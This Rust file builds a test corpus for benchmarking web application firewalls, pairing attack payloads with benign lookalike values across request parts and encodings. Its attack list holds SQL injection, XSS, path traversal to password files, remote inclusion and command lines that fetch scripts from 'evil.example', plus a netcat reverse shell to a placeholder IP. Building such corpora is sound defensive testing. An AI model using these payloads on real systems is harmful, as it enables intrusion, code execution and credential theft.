//! A request corpus for comparing WAFs: attacks of every CRS family
//! (SQLi, XSS, LFI, RFI, RCE, PHP, Node.js, Java, protocol attacks,
//! scanners) and realistic benign values, each placed in every request
//! part (query, path, form, JSON, XML, multipart, cookie, header) and
//! encoding. Deterministic: the same corpus every run.

#[derive(Debug, Clone)]
pub struct Case {
    pub family: &'static str,
    pub attack: bool,
    pub method: &'static str,
    pub target: String,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

pub const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1 UNION SELECT username,password FROM users--"),
    ("sqli", "admin'--"),
    ("sqli", "1; DROP TABLE users"),
    ("sqli", "' AND SLEEP(5)--"),
    ("sqli", "1' AND extractvalue(1,concat(0x7e,version()))--"),
    ("sqli", "' or 1=1#"),
    ("sqli", "1) or benchmark(10000000,md5(1))#"),
    ("sqli", "'; exec xp_cmdshell('dir')--"),
    ("sqli", "1' waitfor delay '0:0:5'--"),
    ("sqli", "-1 union all select null,@@version,null"),
    ("sqli", "' having 1=1--"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "\"><script>alert(1)</script>"),
    ("xss", "<iframe src=javascript:alert(1)>"),
    ("xss", "<body onload=alert(1)>"),
    ("xss", "<a href=\"#\" onclick=\"alert(1)\">x</a>"),
    ("xss", "<ScRiPt>prompt(1)</sCrIpT>"),
    ("xss", "<div style=\"background:url(javascript:alert(1))\">"),
    ("lfi", "../../etc/passwd"),
    ("lfi", "/etc/shadow"),
    ("lfi", "....//....//etc/passwd"),
    ("lfi", "..\\..\\windows\\win.ini"),
    ("lfi", "/proc/self/environ"),
    ("lfi", "../../../../boot.ini"),
    ("rfi", "http://203.0.113.5/shell.txt?"),
    ("rfi", "https://evil.example/x.php?"),
    ("rfi", "ftp://203.0.113.5/x.txt"),
    ("rce", ";cat /etc/passwd"),
    ("rce", "| id"),
    ("rce", "`whoami`"),
    ("rce", "$(curl http://evil.example)"),
    ("rce", "; wget http://evil.example/x.sh -O /tmp/x"),
    ("rce", "&& ping -c 1 evil.example"),
    ("rce", "cmd.exe /c dir"),
    ("rce", "() { :; }; /bin/bash -c id"),
    ("rce", ";/usr/bin/nc -e /bin/sh 203.0.113.5 4444"),
    ("php", "<?php system('id'); ?>"),
    ("php", "php://input"),
    ("php", "phpinfo()"),
    ("php", "eval(base64_decode('aWQ='))"),
    ("php", "file_get_contents('/etc/passwd')"),
    ("php", "O:8:\"stdClass\":0:{}"),
    ("nodejs", "require('child_process').exec('id')"),
    ("nodejs", "process.mainModule.require('fs')"),
    ("java", "java.lang.Runtime.getRuntime().exec('id')"),
    ("java", "class.module.classLoader.resources.context"),
    ("java", "java.io.FileOutputStream"),
    ("protocol", "foo\r\nSet-Cookie: x=1"),
    ("protocol", "x%0d%0aLocation: http://evil.example"),
];

pub const BENIGN: &[&str] = &[
    "O'Brien",
    "Rock 'n' roll",
    "We select the best plan for your union and drop by later",
    "https://example.com/a?b=1",
    "john.doe@example.com",
    "how to drop a table in excel",
    "1 + 1 = 2",
    "42",
    "2026-11-30",
    "Zoë Ångström",
    "path/to/file.txt",
    "**bold** and _italic_",
    "dGhpcyBpcyBhIHRva2Vu",
    "3f9a1c2e-7b1d-4c3a-9e2f-1a2b3c4d5e6f",
    "The quick brown fox jumps over the lazy dog.",
    "Order #1234: 2x tea, 1x cake",
    "Meet me at 5 o'clock",
    "Please update my address to 12 Main St.",
    "I'd like a refund, thanks!",
    "rust async tutorial",
    "New York, NY",
    "price from 10 to 20 EUR",
    "Hello, world",
    "It's a nice day; let's go out",
    "Café au lait, s'il vous plaît",
    "Select your size: S, M or L",
    "Union Square, San Francisco",
    "The script was great (5/5)",
    "Download the report as PDF",
    "My email is jane@example.org - call me",
    "100% cotton",
    "Fish & chips",
    "Where are you from?",
    "Tom said \"hello\" to me",
];

fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

fn path_enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A header or cookie can carry a value only without control characters.
fn header_safe(s: &str) -> bool {
    s.bytes().all(|b| (0x20..0x7f).contains(&b))
}

fn cases_for(family: &'static str, attack: bool, value: &str, out: &mut Vec<Case>) {
    let case = |method, target: String, headers: Vec<(String, String)>, body: String| Case {
        family,
        attack,
        method,
        target,
        headers,
        body,
    };
    let form = (
        "content-type".to_string(),
        "application/x-www-form-urlencoded".to_string(),
    );
    out.push(case(
        "GET",
        format!("/r/search?q={}", enc(value)),
        vec![],
        String::new(),
    ));
    out.push(case(
        "GET",
        format!("/r/items?id=7&note={}", path_enc(value)),
        vec![],
        String::new(),
    ));
    // In a path segment, unless it holds a `/` (an encoded slash is
    // refused by the gateway's path rules before any WAF runs).
    if !value.contains('/') && !value.contains('\\') {
        out.push(case(
            "GET",
            format!("/r/page/{}", path_enc(value)),
            vec![],
            String::new(),
        ));
    }
    out.push(case(
        "POST",
        "/r/form".into(),
        vec![form.clone()],
        format!("name={}&x=1", enc(value)),
    ));
    let json = serde_json::json!({"user": {"comment": value, "id": 7}}).to_string();
    out.push(case(
        "POST",
        "/r/api".into(),
        vec![("content-type".into(), "application/json".into())],
        json,
    ));
    let escaped = value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    out.push(case(
        "POST",
        "/r/xml".into(),
        vec![("content-type".into(), "text/xml".into())],
        format!("<req><comment>{escaped}</comment></req>"),
    ));
    let boundary = "gatehouse-corpus-1";
    out.push(case(
        "POST",
        "/r/upload".into(),
        vec![(
            "content-type".into(),
            format!("multipart/form-data; boundary={boundary}"),
        )],
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--{boundary}--\r\n"
        ),
    ));
    if header_safe(value) {
        out.push(case(
            "GET",
            "/r/hello".into(),
            vec![("cookie".into(), format!("session=abc; pref={}", enc(value)))],
            String::new(),
        ));
        out.push(case(
            "GET",
            "/r/hello".into(),
            vec![("x-comment".into(), value.to_string())],
            String::new(),
        ));
    }
}

/// The whole corpus: every attack and benign value in every part, plain
/// and in a variant (a prefix of ordinary text, or upper case).
pub fn corpus() -> Vec<Case> {
    let variants = |v: &str| {
        [
            v.to_string(),
            format!("search {v}"),
            v.to_uppercase(),
            format!("{v} and more text"),
            format!("({v})"),
            format!("first line\n{v}"),
            format!("{v}!"),
        ]
    };
    let mut out = Vec::new();
    for (family, payload) in ATTACKS {
        for v in variants(payload) {
            cases_for(family, true, &v, &mut out);
        }
        // Encoded twice: decoding once must not be all a WAF does.
        out.push(Case {
            family,
            attack: true,
            method: "GET",
            target: format!("/r/search?q={}", enc(&enc(payload))),
            headers: vec![],
            body: String::new(),
        });
    }
    for value in BENIGN {
        for v in variants(value) {
            cases_for("benign", false, &v, &mut out);
        }
    }
    out
}
